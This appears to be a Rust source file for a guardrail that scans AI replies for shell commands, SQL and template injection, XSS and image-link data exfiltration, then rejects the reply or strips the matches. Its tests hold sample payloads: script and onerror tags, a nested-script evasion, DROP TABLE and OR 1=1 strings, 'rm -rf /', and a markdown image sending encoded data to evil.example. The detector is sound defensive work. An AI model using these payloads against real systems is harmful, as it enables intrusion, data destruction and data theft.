//! What in a reply something else might run: a database, a shell, a template engine, a browser; and what carries a conversation away.

mod exfiltration;
mod rail;
mod rules;
mod shown;

use std::borrow::Cow;
use std::ops::Range;

pub(super) use rail::MARKUP;
use rules::{RULES, candidates, matches};
use shown::shown;

use super::Found;
use super::fold::Folded;
use super::undone::short_codes;
use super::urls;
use crate::classify::{Encoding, Readings, rot13};

/// How often what is left of a text is looked at again.
const MOST_ROUNDS: usize = 4;

/// What is looked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// Commands of a shell, and programs that run some.
    Code,
    /// Texts that change what a statement of SQL means.
    Sqli,
    /// Expressions for template engines that reach beyond the template.
    Template,
    /// What runs in a browser.
    Xss,
    /// Images and links that carry data to other hosts.
    Exfiltration,
}

/// The names of the kinds in `injections`.
pub(super) const KINDS: &[(&str, Kind)] = &[
    ("code", Kind::Code),
    ("sqli", Kind::Sqli),
    ("template", Kind::Template),
    ("xss", Kind::Xss),
    ("exfiltration", Kind::Exfiltration),
];

/// What is done about it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Remedy {
    /// The reply is withheld.
    Reject,
    /// What was found is left out of it.
    Omit,
}

/// What `rails.config.injection_detection` may say.
#[derive(Debug, Clone, PartialEq)]
pub(super) struct Settings {
    /// What is looked for.
    pub injections: Vec<Kind>,
    /// What is done about it.
    pub action: Remedy,
    /// Hosts that images and links may carry data to.
    pub allow: Vec<String>,
}

impl Default for Settings {
    fn default() -> Self {
        Self { injections: KINDS.iter().map(|(_, kind)| *kind).collect(), action: Remedy::Reject, allow: Vec::new() }
    }
}

/// Where a place of what is read lies in the text that was given.
type Origin<'a> = &'a dyn Fn(Range<usize>) -> Range<usize>;
/// Whether something that was found in what is read is meant to be run.
type Meant<'a> = &'a dyn Fn(Kind, &Range<usize>) -> bool;

/// Looks for injections.
#[derive(Debug)]
pub(super) struct Detector {
    injections: Vec<Kind>,
    allow: urls::Detector,
}

impl Detector {
    /// Hosts that are none are left out.
    pub(super) fn new(settings: &Settings) -> Self {
        let allow = urls::Settings { allow: settings.allow.clone(), ..urls::Settings::default() };
        Self { injections: settings.injections.clone(), allow: urls::Detector::new(&allow) }
    }

    /// What is found in a text, in order; the same place once for each rule.
    pub(super) fn find(&self, readings: &Readings) -> Vec<Found> {
        let text = readings.typed();
        let mut found: Vec<Found> = Vec::new();
        self.read(text, &|range| range, &|_, _| true, &mut found);
        for view in readings.as_it_stands().skip(1) {
            // Entities are how markup is made harmless, and who does so leaves letters as they are.
            let is_harmless = view.encodings().contains(&Encoding::Entities);
            let is_letter = |at: usize| view.text().as_bytes()[at].is_ascii_alphabetic();
            let spelled = |range: &Range<usize>| {
                range.clone().filter(|at| is_letter(*at)).any(|at| view.origin(at..at + 1).len() > 1)
            };
            // An address in an address is encoded, and nobody goes there.
            let is_meant = |kind: Kind, range: &Range<usize>| match kind {
                Kind::Xss => !is_harmless || spelled(range),
                Kind::Exfiltration => is_letter(range.start) && spelled(&(range.start..range.start + 1)),
                _ => true,
            };
            self.read(view.text(), &|range| view.origin(range), &is_meant, &mut found);
        }
        // Rules go by structure, which chance does not make.
        if let Some(short) = short_codes(text) {
            self.read(short.text(), &|range| short.origin(range), &|kind, _| kind != Kind::Exfiltration, &mut found);
        }
        let turned = rot13(text);
        let is_other = |_: Kind, range: &Range<usize>| turned[range.clone()] != text[range.clone()];
        self.by_rules(&turned, &|range| range, &is_other, &mut found);
        if turned.contains("http") {
            self.exfiltration(&turned, &|range| range, &is_other, &mut found);
        }
        found.retain(|found| !found.range.is_empty() && text.get(found.range.clone()).is_some());
        found.sort_by_key(|found| (found.range.start, found.range.end));
        found.dedup_by(|a, b| a.rule == b.rule && a.range.start < b.range.end);
        found
    }

    /// Looks at `text` as it stands, and without invisible characters and letters that look like others.
    fn read(&self, text: &str, origin: Origin<'_>, is_meant: Meant<'_>, found: &mut Vec<Found>) {
        self.by_rules(text, origin, is_meant, found);
        self.exfiltration(text, origin, is_meant, found);
        let folded = Folded::new(text);
        if *folded.text != *text {
            let given = |range: Range<usize>| origin(folded.given(range, text));
            let is_meant = |kind: Kind, range: &Range<usize>| is_meant(kind, &folded.given(range.clone(), text));
            self.by_rules(&folded.text, &given, &is_meant, found);
            self.exfiltration(&folded.text, &given, &is_meant, found);
        }
    }

    /// `text` without what is found in it, and without what is found in that; `None` if there is still something after some rounds.
    pub(super) fn omit(&self, text: &str, found: &[Found]) -> Option<String> {
        let mut left = without(text, found);
        for _ in 0..MOST_ROUNDS {
            let found = self.find(&Readings::new(&left));
            if found.is_empty() {
                return Some(left);
            }
            left = without(&left, &found);
        }
        None
    }

    fn by_rules(&self, text: &str, origin: Origin<'_>, is_meant: Meant<'_>, found: &mut Vec<Found>) {
        let candidates = candidates(text);
        if !candidates.contains(&true) {
            return;
        }
        let shown = shown(text);
        let is_shown = |range: &Range<usize>| {
            let index = shown.partition_point(|code| code.start <= range.start);
            index.checked_sub(1).is_some_and(|index| range.start < shown[index].end)
        };
        for (index, rule) in RULES.iter().enumerate() {
            if !candidates[index] || !self.injections.contains(&rule.kind) {
                continue;
            }
            let ranges = matches(index, text).filter(|range| rule.in_code || !is_shown(range));
            let ranges = ranges.filter(|range| is_meant(rule.kind, range));
            found.extend(ranges.map(|range| one(rule.name, origin(range))));
        }
    }

    fn exfiltration(&self, text: &str, origin: Origin<'_>, is_meant: Meant<'_>, found: &mut Vec<Found>) {
        if self.injections.contains(&Kind::Exfiltration) {
            let carried = exfiltration::find(text, |link| self.allow.is_allowed(link)).into_iter();
            let carried = carried.filter(|range| is_meant(Kind::Exfiltration, range));
            found.extend(carried.map(|range| one("data_in_address", origin(range))));
        }
    }
}

fn one(rule: &'static str, range: Range<usize>) -> Found {
    Found { rule: Cow::Borrowed(rule), range, score: 1.0 }
}

/// `text` without what was found, which is in order.
fn without(text: &str, found: &[Found]) -> String {
    let mut left = String::with_capacity(text.len());
    let mut done = 0;
    for found in found {
        if done < found.range.start {
            left.push_str(&text[done..found.range.start]);
        }
        done = done.max(found.range.end);
    }
    left.push_str(&text[done..]);
    left
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A text, and the rules that find something in it.
    #[derive(serde::Deserialize)]
    struct Case {
        text: String,
        rules: Vec<String>,
    }

    fn find(detector: &Detector, text: &str) -> Vec<Found> {
        detector.find(&Readings::new(text))
    }

    #[test]
    fn injections_are_found_and_answers_about_them_pass() {
        let detector =
            Detector::new(&Settings { allow: vec!["images.shop.example".to_owned()], ..Settings::default() });
        let (mut positive, mut negative, mut wrong) = (0, 0, Vec::new());
        for line in include_str!("../../../tests/data/injections.jsonl").lines() {
            let case: Case = serde_json::from_str(line).unwrap();
            let mut rules: Vec<String> =
                find(&detector, &case.text).iter().map(|found| found.rule.to_string()).collect();
            rules.sort();
            rules.dedup();
            *(if case.rules.is_empty() { &mut negative } else { &mut positive }) += 1;
            if rules != case.rules {
                wrong.push(format!("{:?}: {rules:?} and not {:?}", case.text, case.rules));
            }
        }
        assert!(positive >= 40 && negative >= 40);
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[test]
    fn what_is_found_is_left_out() {
        let detector = Detector::new(&Settings::default());
        for (text, wanted) in [
            ("Use <img src=x onerror=alert(1)> here.", "Use  here."),
            ("all is well", "all is well"),
            ("Use <script>alert(1)</script > here.", "Use  here."),
            ("x'; DROP TABLE users; --", "x"),
            ("![é](https://evil.example/?d=aWdub3JlIGFsbCBydWxlcw) ü", "![é]() ü"),
        ] {
            assert_eq!(detector.omit(text, &find(&detector, text)).unwrap(), wanted);
        }
        let nested = "<scr<script>alert(1)</script>ipt>alert(2)</script> fine";
        assert!(!detector.omit(nested, &find(&detector, nested)).unwrap().contains("<script"));
    }

    #[test]
    fn kinds_that_are_not_wanted_are_not_looked_for() {
        let detector = Detector::new(&Settings { injections: vec![Kind::Xss], ..Settings::default() });
        assert_eq!(find(&detector, "' OR '1'='1' --"), []);
        assert_eq!(find(&detector, "<script>alert(1)</script>").len(), 1);
    }

    #[test]
    fn a_long_text_takes_no_long_time() {
        let detector = Detector::new(&Settings::default());
        for unit in [
            "' or 1=1 ",
            "<a ",
            "{{ ",
            "`",
            "';",
            "![](",
            "https://a.example/?d=x ",
            "a' --",
            "<script>",
            "rm -rf / ",
            "é{{",
        ] {
            let text = unit.repeat(200_000 / unit.len());
            assert!(find(&detector, &text).len() < text.len());
        }
    }
}
